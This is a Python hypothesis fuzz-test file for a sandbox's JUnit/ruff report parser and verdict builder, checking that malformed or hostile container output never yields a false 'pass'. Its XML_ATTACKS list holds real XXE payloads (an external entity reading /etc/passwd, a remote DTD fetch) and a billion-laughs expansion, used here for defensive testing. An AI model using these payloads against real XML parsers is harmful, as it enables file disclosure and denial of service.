"""Fuzzing what the container sends back: whatever arrives, the host makes a report of it
(never an exception), and the verdict is ``pass`` only for a genuinely passing run.

Inputs: arbitrary bytes and text, malformed and hostile JSON (deep nesting, huge numbers,
NaN, lone surrogates), hostile XML (entity expansion, external entities, deep nesting,
huge attributes, invalid UTF-8), and runner documents with any field replaced by junk.
"""

from __future__ import annotations

import copy
import json
import xml.etree.ElementTree as ET

from codemend.sandbox.parse import parse_junit, parse_ruff
from codemend.sandbox.report import CheckReport
from codemend.sandbox.verdict import RunFacts, build_report
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

FUZZ = settings(max_examples=400, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
WORKDIR = "/work/abc"
CASE = '<testcase classname="tests.test_sol" name="{}" file="tests/test_sol.py" line="1"/>'
JUNIT = f'<testsuites><testsuite tests="2">{CASE.format("test_a")}{CASE.format("test_b")}' \
        '</testsuite></testsuites>'
GENUINE = {
    "runner": 1, "mode": "check", "duration_s": 0.4, "oom_kills_before": 0,
    "oom_kills_after": 0,
    "ruff": {"rc": 0, "duration_s": 0.1, "timed_out": False, "output_limit": False,
             "stderr": "", "json": "[]"},
    "pytest": {"rc": 0, "duration_s": 0.3, "timed_out": False, "output_limit": False,
               "stdout": "..\n2 passed in 0.01s\n", "stderr": ""},
    "junit": {"present": True, "size": len(JUNIT), "truncated": False, "trimmed": False,
              "data": JUNIT},
    "inventory": {"tests": {"tests/test_sol.py": {
        "ids": ["tests/test_sol.py::test_a", "tests/test_sol.py::test_b"], "xfail": False,
        "parsed": True}}, "solution_files": ["sol.py"],
        "sources": {"sol.py": "def add(a, b):\n    return a + b\n"}, "sources_truncated": False},
    "witness": {"started": True, "ended": True, "exitstatus": 0, "collected": 2, "ran": 2,
                "outcomes": {"passed": 2, "failed": 0, "error": 0, "skipped": 0},
                "collect": {"failed": 0, "skipped": 0}, "integrity": [], "notes": [],
                "plugins": [], "problems": []},
}

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner,
                                                                max_size=4),
    max_leaves=12)


def facts(payload: bytes, **kw) -> RunFacts:
    return RunFacts(stdout=payload, stderr=b"", duration_s=0.5, **kw)


def report_of(doc: object, **kw) -> CheckReport:
    text = json.dumps(doc, allow_nan=True)
    r = build_report(facts(text.encode("utf-8", "surrogatepass"), **kw), WORKDIR, 10)
    r.model_dump_json()  # every report serialises, whatever it holds
    return r


def genuinely_passing(doc: object) -> bool:
    """An independent, strict statement of what a passing runner document looks like."""
    try:
        ruff, pytest, junit = doc["ruff"], doc["pytest"], doc["junit"]
        w, inv = doc["witness"], doc["inventory"]
        clean_steps = not any(s.get(k) for s in (ruff, pytest)
                              for k in ("timed_out", "output_limit"))
        cases = list(ET.fromstring(junit["data"]).iter("testcase"))
        outcomes = [next((c.tag for c in case), "passed") for case in cases]
        names = {f'{c.get("file")}::{c.get("name")}' for c in cases}
        return (doc["mode"] == "check" and "runner" in doc and clean_steps
                and json.loads(ruff["json"]) == [] and pytest["rc"] == 0
                and bool(junit["present"]) and not junit.get("truncated")
                and not _num(doc.get("oom_kills_after")) > _num(doc.get("oom_kills_before"))
                and "passed" in outcomes and set(outcomes) <= {"passed", "skipped"}
                and w["started"] is True and w["ended"] is True and w["exitstatus"] == 0
                and w["problems"] == [] and w["integrity"] == [] and w["plugins"] == []
                and w["outcomes"]["failed"] == 0 and w["outcomes"]["error"] == 0
                and w["outcomes"]["passed"] >= outcomes.count("passed")
                and all(i in names for e in inv["tests"].values() for i in e["ids"]))
    except Exception:
        return False


def _num(value: object) -> float:
    """Counters that are missing or not numbers report nothing (as in the verdict)."""
    return value if isinstance(value, (int, float)) and not isinstance(value, bool) else 0


# -- parsers ---------------------------------------------------------------------------
@FUZZ
@given(st.text() | st.binary().map(lambda b: b.decode("utf-8", "replace")))
def test_parse_ruff_never_raises(raw: str):
    r = parse_ruff(raw, WORKDIR)
    if r.ok:
        assert json.loads(raw) == []


@FUZZ
@given(json_values)
def test_parse_ruff_handles_any_json(value):
    r = parse_ruff(json.dumps(value), WORKDIR)
    assert r.ok == (value == [])


@FUZZ
@given(st.text() | st.binary().map(lambda b: b.decode("utf-8", "replace")))
def test_parse_junit_never_raises(raw: str):
    r = parse_junit(raw)
    assert not r.ok or r.passed >= 1


XML_ATTACKS = [
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + ']><testsuite><testcase name="&j;"/></testsuite>',
    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<testsuite><testcase name="&x;"/></testsuite>',
    '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
    '<testsuite/>',
    "<testsuite>" + "<a>" * 50000 + "</a>" * 50000 + "</testsuite>",
    f'<testsuite><testcase name="{"n" * (8 << 20)}"/></testsuite>',
    "<testsuite><testcase name='\udcff'/></testsuite>",
    "<testsuite>\x00<testcase/></testsuite>",
    "<testsuites><testsuite><testcase><failure message='x'>" + "]]>" * 1000,
]


HUGE_NAME = 4


@settings(max_examples=len(XML_ATTACKS) * 3, deadline=None, database=None)
@given(st.sampled_from(range(len(XML_ATTACKS))), st.sampled_from(["", "<?xml version='1.0'?>"]))
def test_parse_junit_hostile_xml(attack: int, prefix: str):
    """Entities are refused or capped (expat), nothing external is read, sizes are capped."""
    r = parse_junit(prefix + XML_ATTACKS[attack])
    assert r.ok == (attack == HUGE_NAME), r.error  # a well-formed passing case, long name
    assert all(len(c.id) <= 500 for c in r.cases)
    assert "root:" not in r.model_dump_json()


@FUZZ
@given(st.lists(st.tuples(st.sampled_from(["", "failure", "error", "skipped"]),
                          st.text(max_size=20), st.text(max_size=200)), max_size=8))
def test_parse_junit_counts_what_it_reads(cases):
    body = "".join(
        f'<testcase name="{ET_escape(n)}">'
        + (f'<{k} message="{ET_escape(m)}">{ET_escape(m)}</{k}>' if k else "") + "</testcase>"
        for k, n, m in cases)
    r = parse_junit(f"<testsuite>{body}</testsuite>")
    kinds = [k for k, _, _ in cases]
    if r.error and "not valid XML" in r.error:
        return  # control characters in the text: refused, never a pass
    assert (r.passed, r.failed, r.errors, r.skipped) == (
        kinds.count(""), kinds.count("failure"), kinds.count("error"), kinds.count("skipped"))
    assert r.ok == ("" in kinds and "failure" not in kinds and "error" not in kinds)


@given(st.one_of(st.floats(allow_nan=True),
                 st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=12)))
def test_parse_junit_keeps_each_case_time_or_zero(value):
    r = parse_junit(f'<testsuite><testcase name="a" time="{ET_escape(str(value))}"/>'
                    '<testcase name="b" time="0.25"/><testcase name="c"/></testsuite>')
    assert [c.duration_s for c in r.cases][1:] == [0.25, 0.0]
    got = r.cases[0].duration_s
    assert got >= 0 and got != float("inf") and got == got  # never negative, inf or NaN


def ET_escape(text: str) -> str:  # noqa: N802 - mirrors xml.sax.saxutils.escape
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;"))


# -- build_report --------------------------------------------------------------------------
def test_the_genuine_document_passes():
    assert genuinely_passing(GENUINE)
    r = report_of(GENUINE)
    assert r.verdict == "pass", r.message


@FUZZ
@given(st.binary(max_size=4096), st.booleans(), st.booleans(), st.booleans())
def test_arbitrary_bytes_never_pass(payload: bytes, truncated: bool, killed: bool, oom: bool):
    r = build_report(facts(payload, truncated=truncated, host_killed=killed, oom_killed=oom),
                     WORKDIR, 10)
    assert r.verdict != "pass"
    r.model_dump_json()


@FUZZ
@given(json_values)
def test_arbitrary_json_never_passes(value):
    r = report_of(value)
    assert r.verdict != "pass" or genuinely_passing(value)


def _paths(node: object, prefix: tuple = ()) -> list[tuple]:
    out = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            out += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            out += _paths(value, (*prefix, i))
    return out


PATHS = _paths(GENUINE)


@st.composite
def mutated(draw) -> dict:
    """The genuine document with some fields replaced by junk (or removed)."""
    doc = copy.deepcopy(GENUINE)
    for path in draw(st.lists(st.sampled_from(PATHS), min_size=1, max_size=4, unique=True)):
        parent = doc
        try:
            for key in path[:-1]:
                parent = parent[key]
            if draw(st.booleans()) and isinstance(parent, dict):
                parent.pop(path[-1], None)
            else:
                parent[path[-1]] = draw(json_values)
        except (KeyError, IndexError, TypeError):
            continue  # an earlier mutation replaced the parent
    return doc


@FUZZ
@given(mutated())
def test_mutated_documents_pass_only_when_genuinely_passing(doc):
    r = report_of(doc)
    assert r.verdict != "pass" or genuinely_passing(doc), (r.message, doc)


HOSTILE_FIELDS = [
    ("junit", "data", XML_ATTACKS[0]), ("junit", "data", XML_ATTACKS[3]),
    ("junit", "data", XML_ATTACKS[4]), ("ruff", "json", "[" * 100000 + "]" * 100000),
    ("ruff", "json", '[{"location": {"row": 1e999, "column": NaN}, "code": null}]'),
    ("ruff", "json", "[" + "1" * 5000 + "]"), ("pytest", "rc", 10 ** 400),
    ("pytest", "stdout", "\udcff\x00" * 100000), ("oom_kills_after", None, "many"),
    ("inventory", "sources", {"sol.py": "(" * 100000}),
    ("inventory", "sources", {"sol.py": "x = 1\n" * 200000}),
    ("witness", "problems", "not a list"), ("witness", "outcomes", [1, 2, 3]),
]


@settings(max_examples=len(HOSTILE_FIELDS) * 2, deadline=None, database=None)
@given(st.sampled_from(range(len(HOSTILE_FIELDS))))
def test_hostile_fields_are_handled(index: int):
    doc = copy.deepcopy(GENUINE)
    top, key, value = HOSTILE_FIELDS[index]
    if key is None:
        doc[top] = value
    else:
        doc[top][key] = value
    r = report_of(doc)
    assert r.verdict != "pass" or genuinely_passing(doc), r.message


def test_deeply_nested_runner_output_is_infra_error():
    r = build_report(facts(b"[" * 200000 + b"]" * 200000), WORKDIR, 10)
    assert r.verdict == "infra_error"
